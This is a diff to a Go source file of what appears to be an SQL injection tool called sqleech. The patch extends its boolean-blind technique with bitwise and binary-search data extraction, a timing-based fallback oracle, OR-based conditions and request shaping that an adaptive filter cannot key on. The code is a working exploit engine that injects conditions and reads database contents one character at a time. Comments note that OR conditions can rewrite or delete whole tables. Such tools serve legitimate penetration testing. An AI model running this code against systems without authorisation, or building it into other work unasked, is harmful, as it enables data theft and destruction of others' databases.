@@ -1,20 +1,33 @@
 // Package boolean implements boolean-blind SQL injection detection and
 // data extraction. It works by injecting TRUE/FALSE conditions and
 // comparing the server response against a known baseline. Data is
-// extracted character-by-character using binary search over ASCII values.
+// extracted character-by-character using binary search over ASCII values,
+// or one bit per request (see ExtractBits).
+// At higher risk levels, endpoints whose pages never differ can still be
+// detected and read through the response time difference between TRUE and
+// FALSE.
 package boolean
 
 import (
+	"bytes"
 	"context"
+	"errors"
 	"fmt"
 	"net/url"
+	"time"
 
 	"github.com/0x6d61/sqleech/internal/dbms"
 	"github.com/0x6d61/sqleech/internal/detector"
 	"github.com/0x6d61/sqleech/internal/engine"
+	"github.com/0x6d61/sqleech/internal/graphql"
 	"github.com/0x6d61/sqleech/internal/payload"
+	"github.com/0x6d61/sqleech/internal/payloadlib"
+	"github.com/0x6d61/sqleech/internal/rawquery"
+	"github.com/0x6d61/sqleech/internal/reqparam"
 	"github.com/0x6d61/sqleech/internal/technique"
+	"github.com/0x6d61/sqleech/internal/technique/timebased"
 	"github.com/0x6d61/sqleech/internal/transport"
+	"github.com/0x6d61/sqleech/internal/xmlbody"
 )
 
 const (
@@ -22,38 +35,202 @@ const (
 	maxExtractLength = 1024
 	asciiLow         = 32
 	asciiHigh        = 126
+
+	// charBits and lengthBits are the bits ExtractBits reads of each
+	// character and of the length.
+	charBits   = 7
+	lengthBits = 11 // Enough for maxExtractLength
+)
+
+// ExtractMode selects how Extract reads a value.
+type ExtractMode int
+
+const (
+	// ExtractBinarySearch halves the candidate range with each request:
+	// ASCII 32-126 for characters, 0-maxExtractLength for the length.
+	ExtractBinarySearch ExtractMode = iota
+
+	// ExtractBits tests one bit per request, ASCII(...)&2^k>0 for k=0..6,
+	// so a value costs exactly 7 requests per character plus lengthBits.
+	// Every request has the same shape, which an adaptive filter cannot
+	// key on, and the request budget is known in advance.
+	ExtractBits
+)
+
+// Timing fallback. At TimingRisk and above, a boundary whose TRUE and
+// FALSE pages are identical is tested once more on response time: TRUE
+// may run an expensive query that FALSE short-circuits. The thresholds are
+// deliberately conservative, as natural query cost is noisier than a sleep.
+const (
+	// TimingRisk is the lowest risk level that enables the timing fallback;
+	// its repeated probes multiply the requests spent per boundary.
+	TimingRisk = 2
+
+	timingSamples    = 8                      // TRUE and FALSE probes each per boundary
+	timingMinGap     = 100 * time.Millisecond // Minimum gap between the medians
+	timingMinEffect  = 2.0                    // Minimum Cohen's d
+	timingMinT       = 4.0                    // Minimum Welch's t
+	timingConfidence = 0.70
 )
 
-// boundaryPair represents a prefix/suffix combination to try during detection.
+// confirmRounds is the number of TRUE/FALSE rounds that confirm a boundary
+// after the first at the default level.
+const confirmRounds = 2
+
+// ORRisk is the lowest risk level that enables OR-based conditions. When
+// the original condition matches no rows, as with id=99999, AND can never
+// turn the page TRUE, but OR 1=1 makes the query match every row, which in
+// an UPDATE or DELETE statement rewrites or removes the whole table.
+const ORRisk = 2
+
+// errAnomalousResponse is returned by sendBooleanProbe when either the probe
+// or the baseline response cannot be compared (see transport.Anomaly).
+var errAnomalousResponse = errors.New("anomalous response, comparison discarded")
+
+// boundaryPair represents a prefix/suffix combination to try during
+// detection, or a corpus expression that replaces the value outright.
 type boundaryPair struct {
+	id     string // Payload corpus entry ID
 	prefix string
 	suffix string
+	expr   *payloadlib.Entry // Set for expressions; prefix and suffix are empty
+	or     bool              // Join the condition with OR: TRUE pages differ from the baseline
 }
 
-// defaultBoundaries lists the prefix/suffix pairs tried during detection,
-// ordered by likelihood.
-var defaultBoundaries = []boundaryPair{
-	{"", "-- -"},
-	{"'", "-- -"},
-	{"\"", "-- -"},
-	{")", "-- -"},
-	{"')", "-- -"},
+// logic returns the connective joining the condition to the original one.
+func (bp boundaryPair) logic() string {
+	if bp.or {
+		return "OR"
+	}
+	return "AND"
+}
+
+// withOR returns bp joining its condition with OR.
+func (bp boundaryPair) withOR() boundaryPair {
+	bp.or = true
+	return bp
+}
+
+// inject returns the value sent to test condition.
+func (bp boundaryPair) inject(value, condition string) string {
+	if bp.expr != nil {
+		return bp.expr.Render(value, condition)
+	}
+	return value + bp.prefix + " " + bp.logic() + " " + condition + " " + bp.suffix
+}
+
+// payload returns the reported payload for condition.
+func (bp boundaryPair) payload(value, condition string) *payload.Builder {
+	if bp.expr != nil {
+		return payload.NewBuilder().WithCore(bp.expr.Render(value, condition))
+	}
+	return payload.NewBuilder().
+		WithPrefix(bp.prefix).
+		WithCore(" " + bp.logic() + " " + condition).
+		WithSuffix(bp.suffix).
+		WithLogic(bp.logic())
+}
+
+// corpusBoundaries returns the payload corpus boundaries tried against req
+// during detection, those of its level, in corpus order, most likely
+// first.
+func corpusBoundaries(req *technique.InjectionRequest) []boundaryPair {
+	var pairs []boundaryPair
+	for _, e := range payloadlib.Default().Select(technique.BoundaryFilter(payloadlib.TechniqueBoolean, req)) {
+		pairs = append(pairs, boundaryPair{id: e.ID, prefix: e.Prefix, suffix: e.Suffix})
+	}
+	return pairs
+}
+
+// boundariesFor returns the boundaries to try against req. Under a LIMIT
+// context hint the corpus LIMIT expressions come first, as no appended
+// condition survives there; the name-based hint may be wrong, so the
+// ordinary boundaries follow. A boundary prefix recorded in req.State
+// goes before either.
+func boundariesFor(name string, req *technique.InjectionRequest) []boundaryPair {
+	if req.Context != payloadlib.ContextLimit {
+		return preferRecorded(corpusBoundaries(req), req.State)
+	}
+	f := payloadlib.ScanFilter(payloadlib.KindExpression, name, req.DBMS, technique.Level(req), technique.Risk(req))
+	f.Context = req.Context
+	var pairs []boundaryPair
+	for _, e := range payloadlib.Default().Select(f) {
+		pairs = append(pairs, boundaryPair{id: e.ID, expr: &e})
+	}
+	return preferRecorded(append(pairs, corpusBoundaries(req)...), req.State)
+}
+
+// preferRecorded moves the boundaries with the prefix another technique
+// recorded for the parameter to the front, keeping corpus order otherwise.
+func preferRecorded(pairs []boundaryPair, state *engine.ParamState) []boundaryPair {
+	prefix, ok := state.Boundary()
+	if !ok {
+		return pairs
+	}
+	recorded := func(bp boundaryPair) bool { return bp.expr == nil && bp.prefix == prefix }
+	out := make([]boundaryPair, 0, len(pairs))
+	for _, bp := range pairs {
+		if recorded(bp) {
+			out = append(out, bp)
+		}
+	}
+	for _, bp := range pairs {
+		if !recorded(bp) {
+			out = append(out, bp)
+		}
+	}
+	return out
 }
 
 // BooleanBlind implements boolean-blind SQL injection technique.
 type BooleanBlind struct {
 	diffEngine *detector.DiffEngine
-	threshold  float64 // Ratio below this means "different page"
+	json       *detector.JSONComparator // Replaces diffEngine for JSON baselines
+	threshold  float64                  // Ratio below this means "different page"
+	timing     bool                     // Fall back to the timing oracle (risk >= TimingRisk)
+	or         bool                     // Try OR-based conditions (risk >= ORRisk)
+	mode       ExtractMode
 }
 
 // New creates a BooleanBlind with the default DiffEngine and threshold.
 func New() *BooleanBlind {
 	return &BooleanBlind{
 		diffEngine: detector.NewDiffEngine(),
+		json:       detector.NewJSONComparator(),
 		threshold:  defaultThreshold,
 	}
 }
 
+// NewWithRisk creates a BooleanBlind for the given risk level (1-3). From
+// TimingRisk up, boundaries whose pages do not differ are also tested for
+// a TRUE/FALSE response time difference; from ORRisk up, they are first
+// retried with OR-based conditions.
+func NewWithRisk(risk int) *BooleanBlind {
+	b := New()
+	b.timing = risk >= TimingRisk
+	b.or = risk >= ORRisk
+	return b
+}
+
+// timingFor reports whether the timing fallback applies to req: the
+// BooleanBlind was created with it, or req's risk is TimingRisk or more.
+func (b *BooleanBlind) timingFor(req *technique.InjectionRequest) bool {
+	return b.timing || technique.Risk(req) >= TimingRisk
+}
+
+// orFor reports whether OR-based conditions may be tried against req: the
+// BooleanBlind was created with them, or req's risk is ORRisk.
+func (b *BooleanBlind) orFor(req *technique.InjectionRequest) bool {
+	return b.or || technique.Risk(req) >= ORRisk
+}
+
+// NewWithConfig creates a BooleanBlind that extracts in the given mode.
+func NewWithConfig(mode ExtractMode) *BooleanBlind {
+	b := New()
+	b.mode = mode
+	return b
+}
+
 // Name returns "boolean-blind".
 func (b *BooleanBlind) Name() string {
 	return "boolean-blind"
@@ -69,66 +246,72 @@ func (b *BooleanBlind) Priority() int {
 // Algorithm:
 //  1. Try each boundary pair (prefix/suffix).
 //  2. For each pair, send a TRUE probe and a FALSE probe.
-//  3. TRUE response should match baseline (ratio >= threshold).
-//  4. FALSE response should differ from baseline (ratio < threshold).
-//  5. Confirm with 2 additional TRUE/FALSE rounds for reliability.
+//  3. TRUE response should match baseline (same status, ratio >= threshold).
+//  4. FALSE response should differ from baseline (another status, or
+//     ratio < threshold).
+//  5. Confirm with confirmRounds additional TRUE/FALSE rounds for
+//     reliability, plus technique.ExtraConfirmations at higher levels.
 //  6. Return the first boundary pair that consistently distinguishes TRUE from FALSE.
+//  7. At ORRisk, retry the pairs whose TRUE and FALSE pages both matched
+//     the baseline with OR-based conditions, reversing the oracle: the
+//     original condition matches no rows, so OR TRUE should differ from the
+//     baseline and OR FALSE match it.
+//  8. With the timing fallback enabled and no such pair, test the pairs whose
+//     TRUE and FALSE pages both matched the baseline on response time (see
+//     timingOracle), and report the first significant one at reduced
+//     confidence.
 func (b *BooleanBlind) Detect(ctx context.Context, req *technique.InjectionRequest) (*technique.DetectionResult, error) {
 	result := &technique.DetectionResult{
 		Injectable: false,
 		Technique:  b.Name(),
 	}
 
-	for _, bp := range defaultBoundaries {
-		trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)
-
-		// Phase 1: initial TRUE/FALSE check.
-		trueMatch, _, err := b.sendBooleanProbe(ctx, req, trueCondition, bp.prefix, bp.suffix)
-		if err != nil {
-			continue
-		}
-		if !trueMatch {
-			continue
-		}
-
-		falseMatch, _, err := b.sendBooleanProbe(ctx, req, falseCondition, bp.prefix, bp.suffix)
-		if err != nil {
-			continue
+	var samePage []boundaryPair // TRUE and FALSE both matched the baseline
+	for _, bp := range boundariesFor(b.Name(), req) {
+		req.Coverage.Tried(bp.id)
+		found, same := b.tryBoundary(ctx, req, bp)
+		if found != nil {
+			return found, nil
 		}
-		if falseMatch {
-			// FALSE also matches baseline -- cannot distinguish.
-			continue
+		// The OR retry and the natural-cost oracle only take
+		// prefix/suffix boundaries.
+		if same && bp.expr == nil {
+			samePage = append(samePage, bp)
 		}
+	}
 
-		// Phase 2: 2 more rounds for confirmation.
-		consistent := true
-		rounds := 2
-		for i := 0; i < rounds; i++ {
-			tm, _, err := b.sendBooleanProbe(ctx, req, trueCondition, bp.prefix, bp.suffix)
-			if err != nil || !tm {
-				consistent = false
-				break
-			}
-			fm, _, err := b.sendBooleanProbe(ctx, req, falseCondition, bp.prefix, bp.suffix)
-			if err != nil || fm {
-				consistent = false
-				break
+	if b.orFor(req) {
+		for _, bp := range samePage {
+			if found, _ := b.tryBoundary(ctx, req, bp.withOR()); found != nil {
+				return found, nil
 			}
 		}
+	}
 
-		if !consistent {
+	if !b.timingFor(req) {
+		return result, nil
+	}
+	for _, bp := range samePage {
+		trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)
+		diff, ok := b.timingOracle(ctx, req, bp)
+		if !ok {
 			continue
 		}
-
-		// All rounds passed -- injectable.
+		req.Coverage.Succeeded(bp.id)
+		req.State.RecordBoundary(bp.prefix)
 		result.Injectable = true
-		// Confidence: 1 initial + 2 confirmations = 3 consistent rounds.
-		result.Confidence = 0.90
-		result.Evidence = fmt.Sprintf("TRUE condition (%s) matches baseline; FALSE condition (%s) differs", trueCondition, falseCondition)
+		result.Confidence = timingConfidence
+		result.Evidence = fmt.Sprintf(
+			"identical pages, but TRUE condition (%s) took median %s (sd %s) and FALSE condition (%s) median %s (sd %s) over %d probes each; effect size d=%.1f, Welch t=%.1f",
+			trueCondition, roundMS(diff.Slow.Median), roundMS(diff.Slow.StdDev),
+			falseCondition, roundMS(diff.Fast.Median), roundMS(diff.Fast.StdDev),
+			diff.Slow.N, diff.Effect, diff.T,
+		)
 		result.Payload = payload.NewBuilder().
 			WithPrefix(bp.prefix).
 			WithCore(" AND " + trueCondition).
 			WithSuffix(bp.suffix).
+			WithLogic("AND").
 			WithTechnique(b.Name()).
 			WithDBMS(req.DBMS).
 			Build()
@@ -138,6 +321,79 @@ func (b *BooleanBlind) Detect(ctx context.Context, req *technique.InjectionReque
 	return result, nil
 }
 
+// tryBoundary runs the TRUE/FALSE rounds of Detect on bp and returns the
+// result for a confirmed injection. Otherwise, same reports whether the
+// first TRUE and FALSE pages both matched the baseline.
+func (b *BooleanBlind) tryBoundary(ctx context.Context, req *technique.InjectionRequest, bp boundaryPair) (found *technique.DetectionResult, same bool) {
+	trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)
+
+	// Phase 1: initial TRUE/FALSE check.
+	trueMatch, _, err := b.sendBooleanProbe(ctx, req, trueCondition, bp)
+	if err != nil || !trueMatch {
+		return nil, false
+	}
+
+	falseMatch, falseResp, err := b.sendBooleanProbe(ctx, req, falseCondition, bp)
+	if err != nil {
+		return nil, false
+	}
+	if falseMatch {
+		// FALSE also matches baseline -- cannot distinguish by content.
+		return nil, true
+	}
+
+	// Phase 2: 2 more rounds for confirmation, and more at higher levels.
+	// statusOnly tracks whether every FALSE page differed by its status
+	// code alone.
+	oracle := userOracle(req)
+	statusOnly := oracle == "" && !bp.or && b.statusOnly(req.Baseline, falseResp)
+	rounds := confirmRounds + technique.ExtraConfirmations(req)
+	for i := 0; i < rounds; i++ {
+		tm, _, err := b.sendBooleanProbe(ctx, req, trueCondition, bp)
+		if err != nil || !tm {
+			return nil, false
+		}
+		fm, fresp, err := b.sendBooleanProbe(ctx, req, falseCondition, bp)
+		if err != nil || fm {
+			return nil, false
+		}
+		statusOnly = statusOnly && fresp.StatusCode == falseResp.StatusCode && b.statusOnly(req.Baseline, fresp)
+	}
+
+	// All rounds passed -- injectable.
+	req.Coverage.Succeeded(bp.id)
+	if bp.expr == nil {
+		req.State.RecordBoundary(bp.prefix)
+	}
+	result := &technique.DetectionResult{
+		Injectable: true,
+		Technique:  b.Name(),
+		// Confidence: 1 initial + 2 confirmations = 3 consistent rounds.
+		Confidence: 0.90,
+		Evidence:   fmt.Sprintf("TRUE condition (%s) matches baseline; FALSE condition (%s) differs", trueCondition, falseCondition),
+	}
+	trueShown, falseShown := trueCondition, falseCondition
+	if bp.or {
+		trueShown, falseShown = "OR "+trueCondition, "OR "+falseCondition
+	}
+	switch {
+	case oracle != "":
+		result.Evidence = fmt.Sprintf("page %s under TRUE condition (%s) but not under FALSE condition (%s)", oracle, trueShown, falseShown)
+	case bp.or:
+		result.Evidence = fmt.Sprintf("baseline matches no rows: TRUE condition (%s) differs from it; FALSE condition (%s) matches", trueShown, falseShown)
+	case statusOnly:
+		result.Evidence = fmt.Sprintf(
+			"similar pages, but TRUE condition (%s) answers HTTP %d like the baseline and FALSE condition (%s) HTTP %d in every round",
+			trueCondition, req.Baseline.StatusCode, falseCondition, falseResp.StatusCode,
+		)
+	}
+	result.Payload = bp.payload(req.Parameter.Value, trueCondition).
+		WithTechnique(b.Name()).
+		WithDBMS(req.DBMS).
+		Build()
+	return result, false
+}
+
 // Extract retrieves the value of a SQL expression via binary search.
 //
 // Algorithm:
@@ -145,14 +401,28 @@ func (b *BooleanBlind) Detect(ctx context.Context, req *technique.InjectionReque
 //  2. For each position 1..length, determine the ASCII value via binary search
 //     on ASCII(SUBSTRING((query), pos, 1)).
 //  3. Concatenate characters to produce the final result.
+//
+// In ExtractBits mode, steps 1 and 2 read the bits of the length and of
+// each ASCII value instead.
+//
+// With the timing fallback enabled and no boundary telling TRUE from FALSE
+// by content, extraction runs through timebased.NewNaturalCost on the
+// first boundary the timing oracle accepts.
 func (b *BooleanBlind) Extract(ctx context.Context, req *technique.ExtractionRequest) (*technique.ExtractionResult, error) {
-	d := findDBMS(req.DBMS)
+	d := technique.FindDBMS(&req.InjectionRequest)
 	if d == nil {
 		return nil, fmt.Errorf("unsupported or unknown DBMS: %q", req.DBMS)
 	}
 
-	// Determine working boundary (prefix/suffix) by running a quick detection pass.
-	prefix, suffix, err := b.findWorkingBoundary(ctx, &req.InjectionRequest)
+	// Determine working boundary by running a quick detection pass.
+	bp, err := b.findWorkingBoundary(ctx, &req.InjectionRequest)
+	if err != nil && b.timingFor(&req.InjectionRequest) {
+		for _, bp := range corpusBoundaries(&req.InjectionRequest) {
+			if diff, ok := b.timingOracle(ctx, &req.InjectionRequest, bp); ok {
+				return timebased.NewNaturalCost(bp.prefix, bp.suffix, diff.Threshold()).Extract(ctx, req)
+			}
+		}
+	}
 	if err != nil {
 		return nil, fmt.Errorf("finding working boundary: %w", err)
 	}
@@ -160,7 +430,7 @@ func (b *BooleanBlind) Extract(ctx context.Context, req *technique.ExtractionReq
 	totalRequests := 0
 
 	// Step 1: Extract result length.
-	length, reqs, err := b.extractLength(ctx, req, d, prefix, suffix)
+	length, reqs, err := b.extractLength(ctx, req, d, bp)
 	if err != nil {
 		return nil, fmt.Errorf("extracting length: %w", err)
 	}
@@ -173,7 +443,7 @@ func (b *BooleanBlind) Extract(ctx context.Context, req *technique.ExtractionReq
 	// Step 2: Extract each character.
 	var result []byte
 	for pos := 1; pos <= length; pos++ {
-		ch, reqs, err := b.extractChar(ctx, req, d, pos, prefix, suffix)
+		ch, reqs, err := b.extractChar(ctx, req, d, pos, bp)
 		if err != nil {
 			return &technique.ExtractionResult{
 				Value:    string(result),
@@ -193,24 +463,214 @@ func (b *BooleanBlind) Extract(ctx context.Context, req *technique.ExtractionReq
 }
 
 // sendBooleanProbe sends a probe with the given condition and returns whether
-// the response matches the baseline (TRUE) or differs (FALSE).
-func (b *BooleanBlind) sendBooleanProbe(ctx context.Context, req *technique.InjectionRequest, condition string, prefix, suffix string) (bool, *transport.Response, error) {
-	payloadStr := req.Parameter.Value + prefix + " AND " + condition + " " + suffix
+// the response is a TRUE page, as decided by isTrue. Anomalous responses
+// yield errAnomalousResponse instead of a verdict.
+func (b *BooleanBlind) sendBooleanProbe(ctx context.Context, req *technique.InjectionRequest, condition string, bp boundaryPair) (bool, *transport.Response, error) {
+	payloadStr := bp.inject(req.Parameter.Value, condition)
 	probeReq := buildProbeRequest(req.Target, req.Parameter, payloadStr)
 
-	resp, err := req.Client.Do(ctx, probeReq)
+	resp, err := technique.Send(ctx, req, probeReq)
 	if err != nil {
 		return false, nil, err
 	}
+	if resp.Anomalous() || req.Baseline.Anomalous() {
+		return false, resp, errAnomalousResponse
+	}
 
-	ratio := b.diffEngine.Ratio(req.Baseline.Body, resp.Body)
-	return ratio >= b.threshold, resp, nil
+	return b.isTrue(req, bp, resp), resp, nil
+}
+
+// isTrue reports whether resp is a TRUE page: with a user-supplied oracle
+// on req, whether it contains MatchString, lacks NotMatchString or matches
+// MatchRegexp; otherwise whether it matches the baseline or, for an OR
+// boundary, whose baseline matches no rows, whether it differs from it.
+func (b *BooleanBlind) isTrue(req *technique.InjectionRequest, bp boundaryPair, resp *transport.Response) bool {
+	switch {
+	case req.MatchString != "":
+		return bytes.Contains(resp.Body, []byte(req.MatchString))
+	case req.NotMatchString != "":
+		return !bytes.Contains(resp.Body, []byte(req.NotMatchString))
+	case req.MatchRegexp != nil:
+		return req.MatchRegexp.Match(resp.Body)
+	case bp.or:
+		return !b.matchesBaseline(req.Baseline, resp)
+	default:
+		return b.matchesBaseline(req.Baseline, resp)
+	}
+}
+
+// userOracle describes the user-supplied oracle on req for evidence
+// strings, or returns "" when there is none.
+func userOracle(req *technique.InjectionRequest) string {
+	switch {
+	case req.MatchString != "":
+		return fmt.Sprintf("contains %q", req.MatchString)
+	case req.NotMatchString != "":
+		return fmt.Sprintf("does not contain %q", req.NotMatchString)
+	case req.MatchRegexp != nil:
+		return fmt.Sprintf("matches /%s/", req.MatchRegexp)
+	default:
+		return ""
+	}
+}
+
+// timingOracle sends timingSamples TRUE and FALSE probes, interleaved, with
+// boundary bp and reports whether TRUE is significantly slower. A single
+// screening pair whose TRUE probe is not timingMinGap slower than its FALSE
+// probe rules the boundary out first, so that ordinary parameters cost two
+// requests per boundary rather than the full sample. Any failed or
+// anomalous probe rules the boundary out, including one whose body was
+// truncated. Durations are total times: the two pages are the same, so a
+// streamed body takes as long to read on either side, and a natural query
+// cost may only show once the server has sent its headers.
+func (b *BooleanBlind) timingOracle(ctx context.Context, req *technique.InjectionRequest, bp boundaryPair) (timebased.Differential, bool) {
+	trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)
+	return b.timingDifferential(ctx, req, bp, trueCondition, falseCondition)
+}
+
+// timingDifferential is timingOracle for explicit conditions.
+func (b *BooleanBlind) timingDifferential(ctx context.Context, req *technique.InjectionRequest, bp boundaryPair, trueCondition, falseCondition string) (timebased.Differential, bool) {
+	probe := func(condition string) (time.Duration, bool) {
+		_, resp, err := b.sendBooleanProbe(ctx, req, condition, bp)
+		if err != nil {
+			return 0, false
+		}
+		return resp.Duration, true
+	}
+
+	st, ok1 := probe(trueCondition)
+	sf, ok2 := probe(falseCondition)
+	if !ok1 || !ok2 || st-sf < timingMinGap {
+		return timebased.Differential{}, false
+	}
+
+	slow := make([]time.Duration, 0, timingSamples)
+	fast := make([]time.Duration, 0, timingSamples)
+	for range timingSamples {
+		dt, ok := probe(trueCondition)
+		if !ok {
+			return timebased.Differential{}, false
+		}
+		df, ok := probe(falseCondition)
+		if !ok {
+			return timebased.Differential{}, false
+		}
+		slow, fast = append(slow, dt), append(fast, df)
+	}
+
+	diff := timebased.Compare(slow, fast)
+	return diff, diff.Significant(timingMinT, timingMinEffect, timingMinGap)
+}
+
+// Control re-runs the oracle of the boundary behind req.Finding: TRUE must
+// match the baseline and FALSE differ, or, where both pages match, TRUE
+// must be significantly slower (see timingOracle). The negative control
+// sends both conditions opened with an unbalanced parenthesis, which no
+// statement accepts: a genuine injection then answers TRUE and FALSE alike.
+func (b *BooleanBlind) Control(ctx context.Context, req *technique.ControlRequest) (bool, error) {
+	bp, ok := findingBoundary(b.Name(), req)
+	if !ok {
+		return false, technique.ErrUnknownFinding
+	}
+	trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)
+	if req.Kind == engine.ControlNegative {
+		trueCondition, falseCondition = brokenCondition(trueCondition), brokenCondition(falseCondition)
+	}
+
+	ir := &req.InjectionRequest
+	trueMatch, _, err := b.sendBooleanProbe(ctx, ir, trueCondition, bp)
+	if err != nil {
+		return false, err
+	}
+	falseMatch, _, err := b.sendBooleanProbe(ctx, ir, falseCondition, bp)
+	if err != nil {
+		return false, err
+	}
+	if !trueMatch {
+		return false, nil
+	}
+	if !falseMatch {
+		return true, nil
+	}
+	if !b.timingFor(ir) || bp.expr != nil || bp.or {
+		return false, nil
+	}
+	_, fired := b.timingDifferential(ctx, ir, bp, trueCondition, falseCondition)
+	return fired, nil
+}
+
+// findingBoundary returns the boundary, AND- or OR-based, whose TRUE
+// payload is the payload of req.Finding.
+func findingBoundary(name string, req *technique.ControlRequest) (boundaryPair, bool) {
+	f := req.Finding
+	for _, bp := range boundariesFor(name, &req.InjectionRequest) {
+		candidates := []boundaryPair{bp}
+		if bp.expr == nil {
+			candidates = append(candidates, bp.withOR())
+		}
+		for _, c := range candidates {
+			trueCondition, _ := probeConditions(f.Parameter.Type, c.prefix)
+			if c.payload(f.Parameter.Value, trueCondition).Build().String() == f.Payload {
+				return c, true
+			}
+		}
+	}
+	return boundaryPair{}, false
+}
+
+// brokenCondition returns condition opened with a parenthesis nothing
+// closes: close to the original, but invalid SQL wherever it lands.
+func brokenCondition(condition string) string {
+	return "(" + condition
+}
+
+// roundMS rounds d to the millisecond for evidence strings.
+func roundMS(d time.Duration) time.Duration {
+	return d.Round(time.Millisecond)
+}
+
+// matchesBaseline reports whether resp looks like the baseline page. A
+// response with another status code never matches: some apps answer FALSE
+// with the same page under a 302, 404 or 500. Nor does a page in a
+// different language, whatever its body ratio: apps that load the user's
+// locale in the vulnerable query fall back to the default language on
+// FALSE, which changes little markup but is a clean oracle.
+func (b *BooleanBlind) matchesBaseline(baseline, resp *transport.Response) bool {
+	return resp.StatusCode == baseline.StatusCode && b.matchesBody(baseline, resp)
+}
+
+// statusOnly reports whether resp differs from the baseline by its status
+// code alone.
+func (b *BooleanBlind) statusOnly(baseline, resp *transport.Response) bool {
+	return resp.StatusCode != baseline.StatusCode && b.matchesBody(baseline, resp)
+}
+
+// matchesBody reports whether resp's body looks like the baseline's, in
+// language and content. Against a JSON baseline, a JSON body is compared
+// structurally, ignoring volatile keys (see detector.JSONComparator), as
+// a request ID alone may change every line of it.
+func (b *BooleanBlind) matchesBody(baseline, resp *transport.Response) bool {
+	baseLang := detector.DetectLanguage(baseline.Headers, baseline.Body)
+	if baseLang.Differs(detector.DetectLanguage(resp.Headers, resp.Body)) {
+		return false
+	}
+	if detector.IsJSON(baseline.Headers) {
+		if equal, ok := b.json.Equal(baseline.Body, resp.Body); ok {
+			return equal
+		}
+	}
+	return b.diffEngine.ResponseRatio(baseline, resp) >= b.threshold
 }
 
 // extractLength determines the length of a query result using binary search.
 // It probes: AND LENGTH((query)) > mid
 // Returns (length, requestCount, error).
-func (b *BooleanBlind) extractLength(ctx context.Context, req *technique.ExtractionRequest, d dbms.DBMS, prefix, suffix string) (int, int, error) {
+func (b *BooleanBlind) extractLength(ctx context.Context, req *technique.ExtractionRequest, d dbms.DBMS, bp boundaryPair) (int, int, error) {
+	if b.mode == ExtractBits {
+		length, requests, err := b.readBits(ctx, &req.InjectionRequest, d, bp, d.Length(fmt.Sprintf("(%s)", req.Query)), lengthBits)
+		return min(length, maxExtractLength), requests, err
+	}
+
 	low := 0
 	high := maxExtractLength
 	requests := 0
@@ -219,7 +679,7 @@ func (b *BooleanBlind) extractLength(ctx context.Context, req *technique.Extract
 		mid := (low + high) / 2
 		condition := fmt.Sprintf("%s>%d", d.Length(fmt.Sprintf("(%s)", req.Query)), mid)
 
-		match, _, err := b.sendBooleanProbe(ctx, &req.InjectionRequest, condition, prefix, suffix)
+		match, _, err := b.sendBooleanProbe(ctx, &req.InjectionRequest, condition, bp)
 		if err != nil {
 			return 0, requests, err
 		}
@@ -240,7 +700,13 @@ func (b *BooleanBlind) extractLength(ctx context.Context, req *technique.Extract
 // extractChar extracts a single character at a 1-based position using binary search.
 // It probes: AND ASCII(SUBSTRING((query), pos, 1)) > mid
 // Returns (character, requestCount, error).
-func (b *BooleanBlind) extractChar(ctx context.Context, req *technique.ExtractionRequest, d dbms.DBMS, pos int, prefix, suffix string) (byte, int, error) {
+func (b *BooleanBlind) extractChar(ctx context.Context, req *technique.ExtractionRequest, d dbms.DBMS, pos int, bp boundaryPair) (byte, int, error) {
+	if b.mode == ExtractBits {
+		asciiExpr := d.ASCII(d.Substring(fmt.Sprintf("(%s)", req.Query), pos, 1))
+		ch, requests, err := b.readBits(ctx, &req.InjectionRequest, d, bp, asciiExpr, charBits)
+		return byte(ch), requests, err
+	}
+
 	low := asciiLow
 	high := asciiHigh
 	requests := 0
@@ -251,7 +717,7 @@ func (b *BooleanBlind) extractChar(ctx context.Context, req *technique.Extractio
 		asciiExpr := d.ASCII(subExpr)
 		condition := fmt.Sprintf("%s>%d", asciiExpr, mid)
 
-		match, _, err := b.sendBooleanProbe(ctx, &req.InjectionRequest, condition, prefix, suffix)
+		match, _, err := b.sendBooleanProbe(ctx, &req.InjectionRequest, condition, bp)
 		if err != nil {
 			return 0, requests, err
 		}
@@ -269,26 +735,82 @@ func (b *BooleanBlind) extractChar(ctx context.Context, req *technique.Extractio
 	return byte(low), requests, nil
 }
 
-// findWorkingBoundary iterates through boundary pairs and returns the first
-// one that can distinguish TRUE from FALSE conditions.
-func (b *BooleanBlind) findWorkingBoundary(ctx context.Context, req *technique.InjectionRequest) (string, string, error) {
-	for _, bp := range defaultBoundaries {
-		trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)
-
-		trueMatch, _, err := b.sendBooleanProbe(ctx, req, trueCondition, bp.prefix, bp.suffix)
-		if err != nil || !trueMatch {
-			continue
+// readBits reads the non-negative integer expression expr one bit per
+// request, bits 0 to n-1, through (expr&2^k)>0.
+// Returns (value, requestCount, error).
+func (b *BooleanBlind) readBits(ctx context.Context, req *technique.InjectionRequest, d dbms.DBMS, bp boundaryPair, expr string, n int) (int, int, error) {
+	value := 0
+	requests := 0
+	for k := range n {
+		match, _, err := b.sendBooleanProbe(ctx, req, bitCondition(d, expr, 1<<k), bp)
+		if err != nil {
+			return 0, requests, err
 		}
+		requests++
+		if match {
+			value |= 1 << k
+		}
+	}
+	return value, requests, nil
+}
 
-		falseMatch, _, err := b.sendBooleanProbe(ctx, req, falseCondition, bp.prefix, bp.suffix)
-		if err != nil || falseMatch {
-			continue
+// bitCondition returns a condition that holds when bit is set in expr.
+// Oracle has no & operator and uses BITAND instead.
+func bitCondition(d dbms.DBMS, expr string, bit int) string {
+	if d.Name() == "Oracle" {
+		return fmt.Sprintf("BITAND(%s,%d)>0", expr, bit)
+	}
+	return fmt.Sprintf("(%s&%d)>0", expr, bit)
+}
+
+// findWorkingBoundary iterates through boundary pairs and returns the first
+// one that can distinguish TRUE from FALSE conditions. At ORRisk, the pairs
+// whose pages never differed are then retried with OR.
+func (b *BooleanBlind) findWorkingBoundary(ctx context.Context, req *technique.InjectionRequest) (boundaryPair, error) {
+	var samePage []boundaryPair
+	for _, bp := range boundariesFor(b.Name(), req) {
+		switch b.checkBoundary(ctx, req, bp) {
+		case boundaryWorks:
+			return bp, nil
+		case boundarySamePage:
+			if b.orFor(req) && bp.expr == nil {
+				samePage = append(samePage, bp.withOR())
+			}
 		}
+	}
+	for _, bp := range samePage {
+		if b.checkBoundary(ctx, req, bp) == boundaryWorks {
+			return bp, nil
+		}
+	}
+
+	return boundaryPair{}, fmt.Errorf("no working boundary found")
+}
